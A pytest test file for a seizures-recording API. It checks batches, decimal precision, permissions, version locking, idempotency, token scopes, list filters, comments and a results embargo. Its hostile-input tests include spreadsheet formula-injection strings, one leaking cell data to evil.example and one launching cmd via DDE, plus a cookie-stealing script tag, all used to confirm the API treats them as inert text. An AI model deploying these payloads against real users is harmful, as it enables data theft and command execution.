"""The seizures API: one record or a batch (all or none), exact decimals, hostile input, who may create and edit,
optimistic locking, idempotent POSTs, token scopes, the list's paging, sorting and filters, comments and the
operation's results embargo."""
from decimal import Decimal

import pytest
from sqlalchemy import event, func, select

from planner.core.audit import AuditEntry
from planner.extensions import db
from planner.operations.services import take_transition
from planner.results.models import Quantity, Seizure
from tests.api.conftest import api  # noqa: F401
from tests.api.helpers import assert_error
from tests.factories import PREPARERS
from tests.results.conftest import seizure_data


def seizures_url(op):
    return f"/operations/{op.id}/seizures"


def stored():
    return db.session.scalar(select(func.count()).select_from(Seizure))


def advance(factory, op, *actions):
    """Take the lifecycle further (end, evaluate, close) as the lead's coordinator."""
    coordinator = factory.coordinator(op.lead.code)
    for action in actions:
        for prepare in PREPARERS.get(action, []):
            prepare(factory, op)
        take_transition(coordinator, op, action)
        db.session.commit()
    assert op.state == actions[-1].replace("end", "post_operational").replace("evaluate", "evaluation") \
        .replace("close", "closed")


def create(api, user, op, **overrides):
    response = api("POST", seizures_url(op), user, json=seizure_data(**overrides))
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def audit_actions(seizure_id):
    return list(db.session.scalars(select(AuditEntry.action).where(AuditEntry.object_type == "seizure",
                                                                   AuditEntry.object_id == seizure_id)
                                   .order_by(AuditEntry.id)))


# --- creating -------------------------------------------------------------------------------------------------

def test_create_one_answers_201_with_the_record(api, factory, running):
    officer = factory.user("LT", "officer")
    response = api("POST", seizures_url(running), officer, json=seizure_data(national_reference="LT-2026-0042"))
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["national_reference"] == "LT-2026-0042" and body["organisation"] == "LT"
    assert body["status"] == "submitted" and body["submitted_at"] == "2026-05-10T12:00:00+00:00"
    assert body["seized_at"] == "2026-05-06T11:30:00+00:00"  # 14:30+03:00, in UTC
    assert body["version"] == 1 and body["operation_id"] == running.id
    assert response.headers["Location"].endswith(f"/api/v1/seizures/{body['id']}")
    seizure = db.session.get(Seizure, body["id"])
    assert seizure.organisation.code == "LT" and seizure.created_by_id == officer.id
    assert audit_actions(seizure.id) == ["seizure.created"]
    again = api("GET", f"/seizures/{body['id']}", officer)
    assert again.status_code == 200 and again.headers["ETag"] == '"1"'
    assert again.get_json()["items"][0]["quantities"] == [
        {"value": "2875000", "unit": "pcs", "normalised_value": "2875000", "base_unit": "pcs"}]


def test_a_reference_left_out_is_assigned(api, factory, running):
    officer = factory.user("PL", "officer")
    first = create(api, officer, running)
    second = create(api, officer, running)
    assert (first["national_reference"], second["national_reference"]) == ("PL-2026-0001", "PL-2026-0002")


def test_a_batch_is_stored_whole(api, factory, running):
    officer = factory.user("LT", "officer")
    records = [seizure_data(national_reference=f"B-{i}", place=f"Place {i}") for i in range(3)]
    response = api("POST", seizures_url(running), officer, json={"seizures": records})
    assert response.status_code == 201, response.get_json()
    items = response.get_json()["items"]
    assert [s["national_reference"] for s in items] == ["B-0", "B-1", "B-2"]
    assert [s["place"] for s in items] == ["Place 0", "Place 1", "Place 2"]
    assert stored() == 3


def test_a_batch_with_one_bad_record_stores_nothing_and_names_every_error(api, factory, running):
    officer = factory.user("LT", "officer")
    bad_unit = seizure_data(items=[{"category": "cigarettes", "type": "cigarettes",
                                    "quantities": [{"value": "10", "unit": "crates"}]}])
    records = [seizure_data(), bad_unit, seizure_data(place=""), seizure_data()]
    response = api("POST", seizures_url(running), officer, json={"seizures": records})
    body = assert_error(response, 422, "seizures.1.items.0.quantities.0.unit", "seizures.2.place")
    assert not any(key.startswith(("seizures.0.", "seizures.3.")) for key in body["errors"])
    assert stored() == 0
    assert db.session.scalar(select(func.count()).select_from(AuditEntry)
                             .where(AuditEntry.action == "seizure.created")) == 0


def test_a_batch_refuses_a_reference_given_twice_and_one_stored_already(api, factory, running):
    officer = factory.user("LT", "officer")
    create(api, officer, running, national_reference="LT-1")
    records = [seizure_data(national_reference="LT-2"), seizure_data(national_reference="LT-2"),
               seizure_data(national_reference="LT-1")]
    response = api("POST", seizures_url(running), officer, json={"seizures": records})
    assert_error(response, 422, "seizures.1.national_reference", "seizures.2.national_reference")
    assert stored() == 1


@pytest.mark.parametrize("body, field", [
    ({"seizures": []}, "seizures"),
    ({"seizures": "all of them"}, "seizures"),
    ({"seizures": [seizure_data()], "dry_run": True}, "dry_run"),
    ({"seizures": [seizure_data(), "not an object"]}, "seizures.1"),
])
def test_a_malformed_batch_is_refused(api, factory, running, body, field):
    response = api("POST", seizures_url(running), factory.user("LT", "officer"), json=body)
    assert_error(response, 422, field)
    assert stored() == 0


def test_a_body_that_is_not_a_json_object_is_refused(api, factory, running):
    officer = factory.user("LT", "officer")
    assert_error(api("POST", seizures_url(running), officer, json=[seizure_data()]), 400)
    assert_error(api("POST", seizures_url(running), officer, data="{not json", content_type="application/json"),
                 400)
    assert stored() == 0


# --- exact decimals -------------------------------------------------------------------------------------------

def test_decimals_are_exact_through_the_api(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running, items=[
        {"category": "drugs", "type": "cocaine", "quantities": [{"value": "283671.925", "unit": "t"}],
         "estimated_value_eur": "0.01"},
        {"category": "drugs", "type": "heroin", "quantities": [{"value": "0.001", "unit": "g"}]},
    ])
    for answer in (body, api("GET", f"/seizures/{body['id']}", officer).get_json()):
        tonnes, grams = (item["quantities"][0] for item in answer["items"])
        assert tonnes == {"value": "283671.925", "unit": "t", "normalised_value": "283671925", "base_unit": "kg"}
        assert grams == {"value": "0.001", "unit": "g", "normalised_value": "0.000001", "base_unit": "kg"}
        assert Decimal(answer["items"][0]["estimated_value_eur"]) == Decimal("0.01")
    values = db.session.execute(select(Quantity.value, Quantity.normalised_value).order_by(Quantity.id)).all()
    assert values == [(Decimal("283671.925"), Decimal("283671925")), (Decimal("0.001"), Decimal("0.000001"))]


def test_a_float_is_refused_with_a_message(api, factory, running):
    response = api("POST", seizures_url(running), factory.user("LT", "officer"), json=seizure_data(items=[
        {"category": "drugs", "type": "cocaine", "quantities": [{"value": 12.5, "unit": "kg"}]}]))
    body = assert_error(response, 422, "items.0.quantities.0.value")
    assert "string" in body["errors"]["items.0.quantities.0.value"][0]
    assert stored() == 0


def test_too_many_decimals_are_refused_not_rounded(api, factory, running):
    response = api("POST", seizures_url(running), factory.user("LT", "officer"), json=seizure_data(items=[
        {"category": "drugs", "type": "cocaine", "quantities": [{"value": "1.0005", "unit": "kg"}]}]))
    assert_error(response, 422, "items.0.quantities.0.value")
    assert stored() == 0


# --- hostile input --------------------------------------------------------------------------------------------

def test_formula_text_is_stored_as_text_and_returned_unchanged(api, factory, running):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    officer = factory.user("LT", "officer")
    body = create(api, officer, running, place=formula, modus_operandi="+cmd|' /C calc'!A0",
                  items=[{"category": "cigarettes", "type": "cigarettes", "description": "@SUM(1+1)*cmd",
                          "quantities": [{"value": "10", "unit": "pcs"}]}])
    answer = api("GET", f"/seizures/{body['id']}", officer).get_json()
    assert answer["place"] == formula
    assert answer["modus_operandi"] == "+cmd|' /C calc'!A0"
    assert answer["items"][0]["description"] == "@SUM(1+1)*cmd"
    assert db.session.get(Seizure, body["id"]).place == formula


def test_a_script_tag_comes_back_as_json_data(api, factory, running):
    script = "<script>alert(document.cookie)</script>"
    officer = factory.user("LT", "officer")
    body = create(api, officer, running, place=script, concealment_details=script)
    response = api("GET", f"/seizures/{body['id']}", officer)
    assert response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.get_json()["place"] == script and response.get_json()["concealment_details"] == script
    listed = api("GET", seizures_url(running), officer)
    assert listed.mimetype == "application/json" and listed.get_json()["items"][0]["place"] == script


@pytest.mark.parametrize("value", ["100000000000000000000", 10**20, "1e20", "Infinity", "NaN", "-5", "0"])
def test_an_absurd_quantity_is_refused(api, factory, running, value):
    response = api("POST", seizures_url(running), factory.user("LT", "officer"), json=seizure_data(items=[
        {"category": "drugs", "type": "cocaine", "quantities": [{"value": value, "unit": "kg"}]}]))
    assert_error(response, 422, "items.0.quantities.0.value")
    assert stored() == 0


@pytest.mark.parametrize("overrides, field", [
    ({"place": "x" * 5000}, "place"),
    ({"national_reference": "r" * 41}, "national_reference"),
    ({"modus_operandi": "m" * 8001}, "modus_operandi"),
    ({"colour": "red"}, "colour"),
    ({"organisation": "PL"}, "organisation"),  # nobody records for another administration
    ({"items": [{"category": "drugs", "type": "cocaine", "colour": "white",
                 "quantities": [{"value": "1", "unit": "kg"}]}]}, "items.0.colour"),
    ({"offenders": [{"role": "driver", "nationality": "BY", "name": "Ivan Petrov"}]}, "offenders.0.name"),
    ({"offenders": [{"role": "driver", "birth_date": "1980-01-01"}]}, "offenders.0.birth_date"),
    ({"arrests": "many"}, "arrests"),
    ({"arrests": -1}, "arrests"),
    ({"items": "cigarettes"}, "items"),
    ({"items": []}, "items"),
    ({"country": "Lithuania"}, "country"),
    ({"seized_at": "yesterday"}, "seized_at"),
    ({"seized_at": "2026-06-10T10:00:00+00:00"}, "seized_at"),  # in the future
    ({"seized_at": "2026-04-20T10:00:00+00:00"}, "seized_at"),  # before the operational phase
    ({"transport_mode": "teleport"}, "transport_mode"),
    ({"status": "withdrawn"}, "status"),
    ({"investigation_opened": "yes"}, "investigation_opened"),
    ({"warning_id": 999999}, "warning_id"),
    ({"conveyance": {"flight_number": "LH123"}}, "conveyance.flight_number"),  # not a road detail
])
def test_hostile_or_wrong_values_are_refused_naming_the_field(api, factory, running, overrides, field):
    response = api("POST", seizures_url(running), factory.user("LT", "officer"), json=seizure_data(**overrides))
    body = assert_error(response, 422, field)
    assert all(message for message in body["errors"][field])
    assert stored() == 0


# --- who may create -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("org, role", [("LT", "officer"), ("LT", "contact_point"), ("LT", "coordinator"),
                                       ("PL", "officer"), ("UA", "contact_point")])
def test_reporters_of_participants_may_submit(api, factory, running, org, role):
    body = create(api, factory.user(org, role), running, status="submitted")
    assert body["organisation"] == org and body["status"] == "submitted"


@pytest.mark.parametrize("org, role, status", [
    ("EUROPOL", "observer", 403),  # an observer organisation reads only
    ("EUROPOL", "analyst", 403),
    ("LT", "analyst", 403),  # an analyst of the lead reads only
    ("LT", "observer", 403),
    ("FR", "coordinator", 404),  # not in the operation
])
def test_others_may_not_create(api, factory, running, org, role, status):
    response = api("POST", seizures_url(running), factory.user(org, role), json=seizure_data())
    assert_error(response, status)
    assert stored() == 0


def test_the_secretariat_may_not_create(api, factory, running):
    assert_error(api("POST", seizures_url(running), factory.secretariat(), json=seizure_data()), 403)
    assert stored() == 0


def test_an_invited_organisation_may_not_create(api, factory, running):
    factory.invite(running, "DE")
    assert_error(api("POST", seizures_url(running), factory.user("DE", "officer"), json=seizure_data()), 403)
    assert stored() == 0


@pytest.mark.parametrize("state", ["planning", "closed"])
def test_no_results_before_the_operation_runs_or_once_closed(api, factory, state):
    from datetime import datetime, timezone

    from planner.core import clock

    if state == "closed":
        clock.freeze(datetime(2026, 5, 1, 6, 0, tzinfo=timezone.utc))
    op = factory.operation_in(state, participants=("PL",))
    clock.freeze(datetime(2026, 5, 10, 12, 0, tzinfo=timezone.utc))
    response = api("POST", seizures_url(op), factory.user("LT", "officer"), json=seizure_data())
    body = assert_error(response, 403)
    assert "operational" in body["error"]
    assert stored() == 0


def test_in_evaluation_a_correction_is_allowed_and_audited_but_not_a_new_record(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    advance(factory, running, "end", "evaluate")
    response = api("PATCH", f"/seizures/{body['id']}", officer, json={"version": 1, "place": "Medininkai BCP"})
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["place"] == "Medininkai BCP" and response.get_json()["version"] == 2
    assert audit_actions(body["id"]) == ["seizure.created", "seizure.corrected"]
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "seizure.corrected"))
    assert entry.data["changes"]["place"] == {"before": "Medininkai", "after": "Medininkai BCP"}
    assert_error(api("POST", seizures_url(running), officer, json=seizure_data()), 403)
    assert stored() == 1


def test_once_closed_a_record_is_read_only(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    advance(factory, running, "end", "evaluate")
    running.state = "closed"  # whatever the close guards ask, the records must be read-only afterwards
    running.closed_at = running.actual_end_at
    db.session.commit()
    assert_error(api("PATCH", f"/seizures/{body['id']}", officer, json={"version": 1, "place": "X"}), 403)
    assert api("GET", f"/seizures/{body['id']}", officer).get_json()["place"] == "Medininkai"


# --- editing --------------------------------------------------------------------------------------------------

def test_the_reporting_administration_edits_with_its_version(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running, status="draft")
    assert body["status"] == "draft" and body["submitted_at"] is None
    response = api("PATCH", f"/seizures/{body['id']}", factory.user("LT", "contact_point"),
                   json={"version": 1, "status": "submitted", "arrests": 3})
    assert response.status_code == 200, response.get_json()
    answer = response.get_json()
    assert answer["status"] == "submitted" and answer["arrests"] == 3 and answer["version"] == 2
    assert answer["national_reference"] == body["national_reference"]
    assert answer["items"][0]["quantities"] == body["items"][0]["quantities"]  # untouched fields keep their values
    assert Decimal(answer["items"][0]["estimated_value_eur"]) == Decimal(body["items"][0]["estimated_value_eur"])
    assert response.headers["ETag"] == '"2"'
    assert audit_actions(body["id"]) == ["seizure.created", "seizure.updated"]


def test_if_match_carries_the_version(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    response = api("PATCH", f"/seizures/{body['id']}", officer, json={"arrests": 2}, headers={"If-Match": '"1"'})
    assert response.status_code == 200 and response.get_json()["version"] == 2


def test_a_stale_version_is_refused_with_the_current_one(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    url = f"/seizures/{body['id']}"
    assert api("PATCH", url, officer, json={"version": 1, "arrests": 2}).status_code == 200
    response = api("PATCH", url, factory.user("LT", "coordinator"), json={"version": 1, "arrests": 5})
    error = assert_error(response, 409, "version")
    assert error["current_version"] == 2
    assert api("GET", url, officer).get_json()["arrests"] == 2
    assert_error(api("PATCH", url, officer, json={"arrests": 5}), 422, "version")  # no version at all
    # the body and If-Match disagree
    assert_error(api("PATCH", url, officer, json={"version": 1, "arrests": 5}, headers={"If-Match": '"2"'}),
                 422, "version")


def test_another_administration_may_not_edit(api, factory, running):
    body = create(api, factory.user("LT", "officer"), running)  # shared with EU Member States by default
    url = f"/seizures/{body['id']}"
    pl = factory.coordinator("PL")
    assert api("GET", url, pl).status_code == 200
    assert_error(api("PATCH", url, pl, json={"version": 1, "place": "Warsaw"}), 403)
    assert_error(api("POST", f"{url}/withdrawal", pl, json={"version": 1, "reason": "Wrong."}), 403)
    ua = factory.coordinator("UA")  # a third country: not shared with it, so it cannot even see the record
    assert_error(api("PATCH", url, ua, json={"version": 1, "place": "Kyiv"}), 404)
    seizure = db.session.get(Seizure, body["id"])
    db.session.refresh(seizure)
    assert seizure.place == "Medininkai" and seizure.version == 1 and seizure.status == "submitted"


def test_the_lead_may_not_edit_a_participants_record(api, factory, running):
    body = create(api, factory.user("PL", "officer"), running)
    response = api("PATCH", f"/seizures/{body['id']}", factory.coordinator("LT"), json={"version": 1, "arrests": 9})
    assert_error(response, 403)


def test_patch_refuses_unknown_and_invalid_fields(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    url = f"/seizures/{body['id']}"
    assert_error(api("PATCH", url, officer, json={"version": 1, "organisation": "PL"}), 422, "organisation")
    assert_error(api("PATCH", url, officer, json={"version": 1, "status": "draft"}), 422, "status")
    assert_error(api("PATCH", url, officer, json={"version": 1, "items": [
        {"category": "drugs", "type": "cocaine", "quantities": [{"value": 1.5, "unit": "kg"}]}]}),
        422, "items.0.quantities.0.value")
    assert api("GET", url, officer).get_json()["version"] == 1


def test_withdrawal_needs_a_reason_and_keeps_the_record(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    url = f"/seizures/{body['id']}/withdrawal"
    assert_error(api("POST", url, officer, json={"version": 1, "reason": "  "}), 422, "reason")
    response = api("POST", url, officer, json={"version": 1, "reason": "Recorded twice."})
    assert response.status_code == 200, response.get_json()
    answer = response.get_json()
    assert answer["status"] == "withdrawn" and answer["withdrawn_reason"] == "Recorded twice."
    assert answer["version"] == 2 and stored() == 1
    assert_error(api("PATCH", f"/seizures/{body['id']}", officer, json={"version": 2, "arrests": 4}), 403)
    # the lead still sees it, withdrawn
    assert api("GET", f"/seizures/{body['id']}", factory.coordinator("LT")).get_json()["status"] == "withdrawn"


def test_a_stale_withdrawal_is_refused(api, factory, running):
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    api("PATCH", f"/seizures/{body['id']}", officer, json={"version": 1, "arrests": 2})
    response = api("POST", f"/seizures/{body['id']}/withdrawal", officer, json={"version": 1, "reason": "x"})
    assert assert_error(response, 409)["current_version"] == 2


# --- idempotent POST ------------------------------------------------------------------------------------------

def test_the_same_idempotency_key_twice_stores_one_record(api, factory, running):
    officer = factory.user("LT", "officer")
    headers = {"Idempotency-Key": "7d4c5a0e-retry-1"}
    first = api("POST", seizures_url(running), officer, json=seizure_data(), headers=headers)
    second = api("POST", seizures_url(running), officer, json=seizure_data(), headers=headers)
    assert first.status_code == second.status_code == 201
    assert "Idempotent-Replayed" not in first.headers
    assert second.headers["Idempotent-Replayed"] == "true"
    assert second.get_json() == first.get_json()
    assert stored() == 1
    third = api("POST", seizures_url(running), officer, json=seizure_data(), headers={"Idempotency-Key": "other"})
    assert third.status_code == 201 and third.get_json()["id"] != first.get_json()["id"]
    assert stored() == 2


def test_the_same_key_with_another_body_is_refused(api, factory, running):
    officer = factory.user("LT", "officer")
    headers = {"Idempotency-Key": "batch-2026-05-10"}
    assert api("POST", seizures_url(running), officer, json=seizure_data(), headers=headers).status_code == 201
    response = api("POST", seizures_url(running), officer, json=seizure_data(place="Vilnius"), headers=headers)
    assert_error(response, 422, "Idempotency-Key")
    assert stored() == 1


def test_a_failed_request_does_not_use_up_its_key(api, factory, running):
    officer = factory.user("LT", "officer")
    headers = {"Idempotency-Key": "fix-and-retry"}
    bad = {"seizures": [seizure_data(), seizure_data(place="")]}
    assert_error(api("POST", seizures_url(running), officer, json=bad, headers=headers), 422, "seizures.1.place")
    good = {"seizures": [seizure_data(), seizure_data(place="Kena")]}
    first = api("POST", seizures_url(running), officer, json=good, headers=headers)
    again = api("POST", seizures_url(running), officer, json=good, headers=headers)
    assert first.status_code == again.status_code == 201
    assert again.headers["Idempotent-Replayed"] == "true" and len(again.get_json()["items"]) == 2
    assert stored() == 2


def test_keys_belong_to_their_user(api, factory, running):
    headers = {"Idempotency-Key": "shared-key"}
    api("POST", seizures_url(running), factory.user("LT", "officer"), json=seizure_data(), headers=headers)
    other = api("POST", seizures_url(running), factory.user("PL", "officer"), json=seizure_data(), headers=headers)
    assert other.status_code == 201 and "Idempotent-Replayed" not in other.headers
    assert other.get_json()["organisation"] == "PL" and stored() == 2


def test_a_bad_idempotency_key_is_refused(api, factory, running):
    response = api("POST", seizures_url(running), factory.user("LT", "officer"), json=seizure_data(),
                   headers={"Idempotency-Key": "k" * 201})
    assert_error(response, 422, "Idempotency-Key")
    assert stored() == 0


# --- token scopes ---------------------------------------------------------------------------------------------

def test_a_national_systems_service_token_with_write_results_feeds_seizures(api, client, factory, running):
    from planner.auth.services import issue_token

    _token, secret = issue_token(factory.coordinator("PL"), "PL national system", ["read", "write_results"],
                                 organisation=factory.org("PL"))
    db.session.commit()
    headers = {"Authorization": f"Bearer {secret}"}
    response = client.post(f"/api/v1{seizures_url(running)}", json=seizure_data(), headers=headers)
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["organisation"] == "PL"
    patched = client.patch(f"/api/v1/seizures/{body['id']}", json={"version": 1, "arrests": 2}, headers=headers)
    assert patched.status_code == 200
    # write_results is not `write`: the operation's settings stay out of its reach
    assert_error(client.put(f"/api/v1/operations/{running.id}/results-embargo",
                            json={"embargo_until": None}, headers=headers), 403)


def test_a_read_only_token_cannot_create(api, factory, running):
    response = api("POST", seizures_url(running), factory.user("LT", "officer"), json=seizure_data(),
                   scopes=("read",))
    body = assert_error(response, 403)
    assert "write_results" in body["error"]
    assert stored() == 0


# --- the list -------------------------------------------------------------------------------------------------

@pytest.fixture
def listed(api, factory, running):
    """Five seizures of LT and PL on different days, places, modes and goods."""
    lt, pl = factory.user("LT", "officer"), factory.user("PL", "officer")
    drugs = [{"category": "drugs", "type": "cocaine", "quantities": [{"value": "12", "unit": "kg"}]}]
    create(api, lt, running, national_reference="LT-A", seized_at="2026-05-02T09:00:00+00:00", place="Kena")
    create(api, lt, running, national_reference="LT-B", seized_at="2026-05-04T23:30:00+00:00",  # 5 May in Brussels
           place="Medininkai", transport_mode="rail", conveyance={}, detection_method="detector_dog")
    create(api, lt, running, national_reference="LT-C", seized_at="2026-05-08T09:00:00+00:00", place="Vilnius",
           items=drugs, status="draft")
    create(api, pl, running, national_reference="PL-A", seized_at="2026-05-03T09:00:00+00:00",
           place="Terespol 100%", items=drugs)
    create(api, pl, running, national_reference="PL-B", seized_at="2026-05-09T09:00:00+00:00", place="Gdansk")
    return {"lt": lt, "pl": pl}


def _refs(response):
    assert response.status_code == 200, response.get_json()
    return [s["national_reference"] for s in response.get_json()["items"]]


def test_the_list_is_newest_first_and_paged(api, running, listed):
    url = seizures_url(running)
    assert _refs(api("GET", url, listed["lt"])) == ["PL-B", "LT-C", "LT-B", "PL-A", "LT-A"]
    body = api("GET", f"{url}?per_page=2&page=2", listed["lt"]).get_json()
    assert [s["national_reference"] for s in body["items"]] == ["LT-B", "PL-A"]
    assert (body["total"], body["page"], body["per_page"], body["pages"]) == (5, 2, 2, 3)
    assert body["results_embargo_until"] is None
    assert api("GET", f"{url}?per_page=2&page=9", listed["lt"]).get_json()["items"] == []
    # PL sees its own and LT's submitted records (shared with EU Member States), never LT's draft
    assert _refs(api("GET", url, listed["pl"])) == ["PL-B", "LT-B", "PL-A", "LT-A"]


@pytest.mark.parametrize("sort, expected", [
    ("seized_at", ["LT-A", "PL-A", "LT-B", "LT-C", "PL-B"]),
    ("national_reference", ["LT-A", "LT-B", "LT-C", "PL-A", "PL-B"]),
    ("-national_reference", ["PL-B", "PL-A", "LT-C", "LT-B", "LT-A"]),
    ("place", ["PL-B", "LT-A", "LT-B", "PL-A", "LT-C"]),
    ("-place", ["LT-C", "PL-A", "LT-B", "LT-A", "PL-B"]),
])
def test_the_list_sorts_by_a_known_key(api, running, listed, sort, expected):
    assert _refs(api("GET", f"{seizures_url(running)}?sort={sort}", listed["lt"])) == expected


def test_sorting_by_organisation_keeps_each_administrations_records_together(api, running, listed):
    refs = _refs(api("GET", f"{seizures_url(running)}?sort=organisation", listed["lt"]))
    assert [r[:2] for r in refs] in (["LT"] * 3 + ["PL"] * 2, ["PL"] * 2 + ["LT"] * 3)


@pytest.mark.parametrize("query, expected", [
    ("organisation=PL", ["PL-B", "PL-A"]),
    ("organisation=pl", ["PL-B", "PL-A"]),
    ("status=draft", ["LT-C"]),
    ("category=drugs", ["LT-C", "PL-A"]),
    ("transport_mode=rail", ["LT-B"]),
    ("detection_method=detector_dog", ["LT-B"]),
    ("date_from=2026-05-05&date_to=2026-05-08", ["LT-C", "LT-B"]),  # local dates (Europe/Brussels)
    ("date_to=2026-05-04", ["PL-A", "LT-A"]),
    ("q=medin", ["LT-B"]),
    ("q=pl-", ["PL-B", "PL-A"]),
    ("q=100%25", ["PL-A"]),
    ("organisation=LT&status=submitted&sort=seized_at", ["LT-A", "LT-B"]),
])
def test_the_list_filters(api, running, listed, query, expected):
    response = api("GET", f"{seizures_url(running)}?{query}", listed["lt"])
    assert _refs(response) == expected
    assert response.get_json()["total"] == len(expected)


@pytest.mark.parametrize("query, field", [
    ("sort=price", "sort"), ("sort=--seized_at", "sort"), ("status=lost", "status"), ("category=gold", "category"),
    ("transport_mode=ufo", "transport_mode"), ("organisation=ZZ-NONE", "organisation"),
    ("date_from=10/05/2026", "date_from"), ("date_from=2026-05-09&date_to=2026-05-01", "date_to"),
    ("per_page=201", "per_page"), ("page=0", "page"), ("page=abc", "page"), ("q=" + "x" * 101, "q"),
])
def test_bad_list_parameters_are_named(api, running, listed, query, field):
    assert_error(api("GET", f"{seizures_url(running)}?{query}", listed["lt"]), 422, field)


def test_a_page_costs_the_same_few_queries_whatever_its_size(api, factory, running):
    officer = factory.user("LT", "officer")
    url = seizures_url(running)

    def queries_for(path):
        seen = []

        def count(*_args):
            seen.append(1)

        event.listen(db.engine, "before_cursor_execute", count)
        try:
            response = api("GET", path, officer)
        finally:
            event.remove(db.engine, "before_cursor_execute", count)
        assert response.status_code == 200
        return len(seen), len(response.get_json()["items"])

    api("GET", url, officer)  # the token is issued outside the counting
    two_items = [{"category": "drugs", "type": "cocaine", "quantities": [{"value": "1", "unit": "kg"},
                                                                         {"value": "3", "unit": "pcs"}]},
                 {"category": "cigarettes", "type": "cigarettes", "quantities": [{"value": "200", "unit": "pcs"}]}]
    api("POST", url, officer, json={"seizures": [seizure_data(items=two_items) for _ in range(2)]})
    small, n_small = queries_for(url)
    api("POST", url, officer, json={"seizures": [seizure_data(items=two_items) for _ in range(40)]})
    large, n_large = queries_for(url)
    assert (n_small, n_large) == (2, 42)
    assert large == small and large <= 12, (small, large)


def test_an_invited_organisation_and_an_outsider_get_no_list(api, factory, running, listed):
    factory.invite(running, "DE")
    assert_error(api("GET", seizures_url(running), factory.coordinator("DE")), 403)
    assert_error(api("GET", seizures_url(running), factory.coordinator("FR")), 404)
    assert_error(api("GET", "/operations/999999/seizures", listed["lt"]), 404)


# --- comments -------------------------------------------------------------------------------------------------

def test_members_who_see_a_record_comment_on_it(api, factory, running):
    body = create(api, factory.user("LT", "officer"), running, share_with_agencies=True)
    url = f"/seizures/{body['id']}/comments"
    pl = factory.user("PL", "officer")
    response = api("POST", url, pl, json={"body": "We saw the same truck on 4 May."})
    assert response.status_code == 201, response.get_json()
    comment = response.get_json()
    assert comment["organisation"] == "PL" and comment["flags_error"] is False
    assert comment["body"] == "We saw the same truck on 4 May." and comment["author"]["id"] == pl.id
    own = api("POST", url, factory.user("LT", "contact_point"), json={"body": "<b>Checked</b>", "flags_error": True})
    assert own.status_code == 201 and own.get_json()["flags_error"] is True
    listed = api("GET", url, factory.user("EUROPOL", "observer")).get_json()["items"]  # shared with agencies
    assert [c["body"] for c in listed] == ["We saw the same truck on 4 May.", "<b>Checked</b>"]
    assert audit_actions(body["id"]) == ["seizure.created", "seizure.commented", "seizure.error_flagged"]


def test_another_administration_flags_an_error_and_the_reporter_is_told(api, factory, running):
    from planner.core.notifications import Notification

    reporter_contact = factory.user("LT", "contact_point")
    body = create(api, factory.user("LT", "officer"), running)
    response = api("POST", f"/seizures/{body['id']}/comments", factory.user("PL", "officer"),
                   json={"body": "The plate is Polish, not Belarusian.", "flags_error": True})
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["flags_error"] is True and response.get_json()["resolved_at"] is None
    assert audit_actions(body["id"]) == ["seizure.created", "seizure.error_flagged"]
    told = db.session.scalars(select(Notification.user_id).where(Notification.kind == "seizure.error_flagged"))
    assert reporter_contact.id in set(told)
    # the record itself is unchanged: only its administration corrects it
    assert api("GET", f"/seizures/{body['id']}", reporter_contact).get_json()["version"] == 1


def test_comments_are_refused_where_the_record_is_not_theirs_to_comment(api, factory, running):
    body = create(api, factory.user("LT", "officer"), running, share_with_agencies=True)
    url = f"/seizures/{body['id']}/comments"
    assert_error(api("POST", url, factory.user("EUROPOL", "observer"), json={"body": "Hi"}), 403)
    assert_error(api("POST", url, factory.coordinator("UA"), json={"body": "Hi"}), 404)  # not shared with UA
    assert_error(api("GET", url, factory.coordinator("UA")), 404)
    assert_error(api("POST", url, factory.user("PL", "officer"), json={"body": ""}), 422, "body")
    assert_error(api("POST", url, factory.user("PL", "officer"), json={"body": "x", "flags_error": "yes"}),
                 422, "flags_error")
    assert_error(api("POST", url, factory.user("PL", "officer"), json={"body": "x", "author": "LT"}), 422, "author")
    assert api("GET", url, factory.coordinator("LT")).get_json()["items"] == []


# --- the operation's results embargo --------------------------------------------------------------------------

def test_the_lead_coordinator_sets_the_results_embargo(api, factory, running):
    coordinator = factory.coordinator("LT")
    url = f"/operations/{running.id}/results-embargo"
    response = api("PUT", url, coordinator, json={"embargo_until": "2026-09-30"})
    assert response.status_code == 200, response.get_json()
    assert response.get_json() == {"operation_id": running.id, "embargo_until": "2026-09-30"}
    officer = factory.user("PL", "officer")
    assert api("GET", seizures_url(running), officer).get_json()["results_embargo_until"] == "2026-09-30"
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "operation.results_embargo_set"))
    assert entry.data == {"before": None, "after": "2026-09-30"} and entry.user_id == coordinator.id
    assert api("PUT", url, coordinator, json={"embargo_until": None}).get_json()["embargo_until"] is None
    assert api("GET", seizures_url(running), officer).get_json()["results_embargo_until"] is None


def test_a_co_organisers_coordinator_sets_it_too(api, factory):
    op = factory.operation_in("planning", participants=(), co_organisers=["OLAF"])
    response = api("PUT", f"/operations/{op.id}/results-embargo", factory.coordinator("OLAF"),
                   json={"embargo_until": "2026-12-31"})
    assert response.status_code == 200, response.get_json()
    db.session.refresh(op)
    assert op.results_embargo_until.isoformat() == "2026-12-31"


@pytest.mark.parametrize("org, role, status", [
    ("PL", "coordinator", 403), ("LT", "contact_point", 403), ("LT", "officer", 403),
    ("EUROPOL", "coordinator", 403), ("FR", "coordinator", 404),
])
def test_nobody_else_sets_the_embargo(api, factory, running, org, role, status):
    response = api("PUT", f"/operations/{running.id}/results-embargo", factory.user(org, role),
                   json={"embargo_until": "2026-09-30"})
    assert_error(response, status)
    db.session.refresh(running)
    assert running.results_embargo_until is None


